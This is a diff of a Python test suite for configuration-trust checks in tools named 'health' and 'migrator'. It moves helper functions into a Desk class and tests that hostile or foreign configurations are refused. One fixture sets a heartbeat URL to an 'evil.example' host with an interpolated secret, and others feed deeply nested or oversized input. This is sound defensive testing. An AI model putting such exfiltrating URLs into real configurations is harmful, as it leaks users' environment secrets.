@@ -3,8 +3,6 @@
 import json
 import os
 import shutil
-import subprocess
-import sys
 from collections.abc import Callable
 from pathlib import Path
 
@@ -124,7 +122,7 @@ DEEP = "[" * 100_000 + "]" * 100_000
 HOSTILE = [
     (".kbstore/config.json", '{"x":' + DEEP + "}"),
     ("health.toml", "a=" + DEEP),
-    ("health.toml", ".".join(["a"] * 30_000) + "=1"),
+    ("health.toml", ".".join(["a"] * 3_000) + "=1"),
     ("health.toml", "a=" + "9" * 5000),
     ("health.toml", "#" * (trust.LARGEST_BYTES + 1)),
     (".kbstore/config.json", " " * (trust.LARGEST_BYTES + 1)),
@@ -135,7 +133,7 @@ HOSTILE = [
 def test_a_hostile_configuration_is_malformed_or_too_large(desk: Desk, name: str, text: str) -> None:
     """No depth, number or size ends in a bug."""
     (desk.folder / name).write_text(text)
-    told = [health(desk, "list").stderr] + ([desk.run("log").err] if name.startswith(".") else [])
+    told = [desk.health("list").err] + ([desk.run("log").err] if name.startswith(".") else [])
     for err in told:
         assert "malformed" in err or "larger than 1 MiB" in err
         assert Path(name).name in err
@@ -184,41 +182,28 @@ def test_a_projects_url_that_chooses_a_server_is_trusted_once(desk: Desk, option
     assert "trust" not in desk.run("log", env={"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x"}).err
 
 
-def health(desk: Desk, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
-    """Run health in the folder."""
-    home = desk.folder.parent / "home"
-    return subprocess.run(
-        [sys.executable, "-c", "from health.cli import main; main()", *arguments],
-        cwd=desk.folder,
-        env=os.environ | {"PYTHONPATH": str(Path(trust.__file__).parent.parent), "HOME": str(home)} | env,
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-
-
 @pytest.mark.parametrize("how", FOREIGN)
 def test_health_runs_nothing_of_somebody_elses_configuration(desk: Desk, how: Callable[[Desk], None]) -> None:
     """Neither its commands nor its plug-ins, nor is a variable sent; a project of somebody else is refused as well."""
-    assert health(desk, "list").returncode == 0
+    assert desk.health("list").code == 0
     how(desk)
-    ended = health(desk, "list")
-    assert ended.returncode == 3
-    assert f"kbstore trust {desk.folder}" in ended.stderr
-    assert health(desk, "list", KBSTORE_TRUST=str(desk.folder)).returncode == 0
+    ended = desk.health("list")
+    assert ended.code == 3
+    assert f"kbstore trust {desk.folder}" in ended.err
+    assert desk.health("list", KBSTORE_TRUST=str(desk.folder)).code == 0
 
 
 def test_a_configuration_that_was_found_uses_no_variable_that_nobody_gave_it(desk: Desk) -> None:
     """A cloned folder is the user's own; still it may not send away any secret of the environment."""
     (desk.folder / "health.toml").write_text("[watch]\nheartbeat_url = 'http://evil.example/${MY_SECRET}'\n")
-    ended = health(desk, "list", MY_SECRET="s3cret")
-    assert ended.returncode == 3
-    assert "MY_SECRET" in ended.stderr
-    assert "s3cret" not in ended.stderr
-    assert health(desk, "--config", "health.toml", "list", MY_SECRET="s3cret").returncode == 0
-    assert health(desk, "list", MY_SECRET="s3cret", KBSTORE_TRUST=str(desk.folder)).returncode == 0
+    ended = desk.health("list", MY_SECRET="s3cret")
+    assert ended.code == 3
+    assert "MY_SECRET" in ended.err
+    assert "s3cret" not in ended.err
+    assert desk.health("--config", "health.toml", "list", MY_SECRET="s3cret").code == 0
+    assert desk.health("list", MY_SECRET="s3cret", KBSTORE_TRUST=str(desk.folder)).code == 0
     (desk.folder / "health.toml").write_text("[serve]\ntoken = '${HEALTH_TOKEN}'\n")
-    assert health(desk, "list", HEALTH_TOKEN="s3cret").returncode == 0
+    assert desk.health("list", HEALTH_TOKEN="s3cret").code == 0
 
 
 REMEDY = """
@@ -244,7 +229,7 @@ def test_a_remedy_runs_in_the_folder_of_the_configuration(desk: Desk) -> None:
     put_fix(desk.folder)
     put_fix(desk.folder / "uploads")
     here = Desk(desk.folder / "uploads")
-    health(here, "fix", "store.reachable")
+    here.health("fix", "store.reachable")
     assert (desk.folder / "ran").exists()
     assert not (here.folder / "ran").exists()
 
@@ -266,7 +251,7 @@ def test_a_link_in_a_foreign_folder_is_refused(desk: Desk, through: str) -> None
         here = Desk(desk.folder.parent / through)
         for name in ("health.toml", ".kbstore"):
             (here.folder / name).symlink_to(other.folder / name)
-    assert "kbstore trust" in health(here, "fix", "store.reachable").stderr
+    assert "kbstore trust" in here.health("fix", "store.reachable").err
     assert not (other.folder / "ran").exists()
     (here.folder / "kb.json").write_text("{}")
     ended = here.run("commit", "-m", "x")
@@ -285,18 +270,11 @@ def test_a_migration_of_somebody_else_in_a_folder_of_ones_own_does_not_run(desk:
     text.write_text("CREATE TABLE t(a int);\n")
     if linked:
         file.symlink_to(text)
-    assert migrator(desk, "status").returncode == 0
+    assert desk.migrator("status").code == 0
     os.chown(text, NOBODY, -1)
-    ended = migrator(desk, "up")
-    assert ended.returncode == 1
-    assert "kbstore trust" in ended.stderr
-
-
-def migrator(desk: Desk, *arguments: str) -> subprocess.CompletedProcess[str]:
-    """Run migrator in the folder."""
-    call = [sys.executable, "-c", "from migrator.cli import main; main()", *arguments]
-    env = os.environ | {"PYTHONPATH": str(Path(trust.__file__).parent.parent), "HOME": str(desk.folder.parent)}
-    return subprocess.run(call, cwd=desk.folder, env=env, capture_output=True, text=True, check=False)
+    ended = desk.migrator("up")
+    assert ended.code == 1
+    assert "kbstore trust" in ended.err
 
 
 def test_migrations_of_somebody_else_do_not_run_unless_they_are_named(tmp_path: Path) -> None:
@@ -306,11 +284,11 @@ def test_migrations_of_somebody_else_do_not_run_unless_they_are_named(tmp_path: 
     (desk.folder / "migrations" / "001_a.sql").write_text("CREATE TABLE t(a int);\n")
     (desk.folder / "migrations").chmod(0o777)
 
-    ended = migrator(desk, "up")
-    assert ended.returncode == 1
-    assert "kbstore trust" in ended.stderr
+    ended = desk.migrator("up")
+    assert ended.code == 1
+    assert "kbstore trust" in ended.err
     assert not (desk.folder / "migrator.db").exists()
-    assert migrator(desk, "--dir", "migrations", "up").returncode == 0
+    assert desk.migrator("--dir", "migrations", "up").code == 0
 
 
 def test_only_what_is_trusted_can_be_removed(tmp_path: Path) -> None:
